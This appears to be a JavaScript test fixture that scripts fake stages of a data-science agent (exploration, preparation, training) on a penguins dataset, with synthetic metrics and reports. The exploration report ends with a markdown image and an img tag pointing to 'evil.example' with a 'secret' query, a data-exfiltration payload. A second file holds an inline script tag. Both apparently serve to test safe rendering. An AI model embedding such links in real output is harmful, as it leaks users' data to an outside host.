/** What each stage does when all goes well. */
import { barChart } from "./png.mjs";

const report = `# Penguins: what the data says

344 rows, 7 columns. The target \`species\` has **three classes**, the smallest of them with 20 % of the rows.

![Rows by species](figures/species.png)

## Columns

| column | type | missing | note |
|---|---|---:|---|
| bill_length_mm | number | 2 | separates Adelie from the others |
| flipper_length_mm | number | 2 | r = 0.87 with body mass |
| island | category | 0 | Torgersen holds Adelie alone |
| sex | category | 11 | missing at random as far as the data tells |

## What to watch

1. \`body_mass_g\` and \`flipper_length_mm\` carry much the same.
2. Eleven rows say no sex; imputing is better than dropping them.

![Out of the way](https://evil.example/?d=secret) <img src="https://evil.example/x">
`;

const code = `# Shape, types and missing values of every column.
import pandas as pd

df = pd.read_csv("/data/datasets/e1/penguins.csv")
print(df.shape)
for name in df.columns:
    print(f"{name:20} {df[name].dtype!s:10} {df[name].isna().sum():4d} missing")
`;

export const stages = {
  async EDA(session) {
    session.plan("IN_PROGRESS", "PENDING", "PENDING");
    await session.speak(
      1,
      "I will first look at the **shape**, the types and what is missing, then at how each column stands to `species`.",
    );
    const lines = [
      "(344, 7)",
      "species              object        0 missing",
      "bill_length_mm       float64       2 missing",
      "!FutureWarning: use_inf_as_na is deprecated",
    ];
    await session.execute("profile columns", code, lines);
    session.plan("DONE", "IN_PROGRESS", "PENDING");
    await session.execute("draw distributions", "import matplotlib\n", ["saved species.png"], async () => {
      session.file("eda/figures/species.png", barChart([0.9, 0.72, 0.42]), "CHART");
      session.file("eda/data/columns.csv", "column,missing\nspecies,0\nsex,11\n", "DATASET");
    });
    session.file("eda/report.md", report, "REPORT");
    session.append("ReportReadyEvent", { stage: "EDA", path: "eda/report.md", content: report });
    session.plan("DONE", "DONE", "DONE");
  },

  async PREP(session) {
    await session.speak(1, "Split first, then fit every transform on train alone.");
    const rows = Array.from(
      { length: 240 },
      (_, at) => `${(40 + (at % 17)).toFixed(1)},${at % 3},${at % 5 === 0 ? "" : "Biscoe"}`,
    );
    session.file("prep/data/train.csv", `bill_length_mm,species,island\n${rows.join("\n")}\n`, "DATASET");
    session.file(
      "prep/data/metadata.json",
      '{"target_column":"species","problem_type":"classification","random_seed":42}',
      "METADATA",
    );
    session.file("prep/summary.html", "<h1>Summary</h1><script>document.title='x'</script>", "FILE");
    session.file("prep/scripts/step_01_split.py", code, "SCRIPT");
    const text = "# Preparation\n\nThe rows were split 70/15/15, stratified by `species`.\n";
    session.append("ReportReadyEvent", { stage: "PREP", path: "prep/report.md", content: text });
    session.file("prep/report.md", text, "REPORT");
    await session.sleep(2);
  },

  async TRAIN(session) {
    await session.speak(1, "Baselines first, then boosted trees.");
    const charts = [
      { title: "Log loss", metrics: ["train_loss", "val_loss"], type: "line" },
      { title: "Accuracy by model", metrics: ["val_accuracy"], type: "bar" },
    ];
    await session.execute("train models", "from trainable import log\n", ["training"], async (callId) => {
      session.append("ChartConfigEvent", { callId, charts });
      for (let step = 0; step < 60; step += 1) {
        const items = ["lightgbm", "xgboost", "random_forest"].flatMap((run, at) => {
          const loss = Math.exp(-step / (14 + 6 * at)) + 0.05 * Math.sin(step * (at + 2)) * Math.exp(-step / 40) + 0.08;
          return [
            { step, name: "train_loss", value: loss, kind: "FINITE", run },
            { step, name: "val_loss", value: loss * 1.15 + 0.03, kind: "FINITE", run },
            { step, name: "val_accuracy", value: 0.98 - loss / 3, kind: "FINITE", run },
            step === 30 && at === 0
              ? { step, name: "grad_norm", value: null, kind: "NAN", run }
              : { step, name: "grad_norm", value: 4 / (1 + step), kind: "FINITE", run },
          ];
        });
        session.append("MetricsBatchEvent", { callId, items });
        await session.sleep(0.3);
      }
    });
    session.file("train/models/model.pkl", Buffer.from([128, 4, 149, 0, 1, 2]), "MODEL");
    const text = "# Training\n\n**lightgbm** does best: 0.981 on the test rows.\n";
    session.append("ReportReadyEvent", { stage: "TRAIN", path: "train/report.md", content: text });
    session.file("train/report.md", text, "REPORT");
    session.append("ValidationResultEvent", {
      stage: "TRAIN",
      passed: ["the model loads", "metrics were logged"],
      warnings: ["one feature carries 61 % of the importance"],
      errors: [],
    });
    session.result = {
      bestModel: "lightgbm",
      metrics: [
        { name: "accuracy", value: 0.981, lower: 0.942, upper: 1 },
        { name: "f1_macro", value: 0.977, lower: 0.93, upper: 1 },
      ],
    };
  },
};
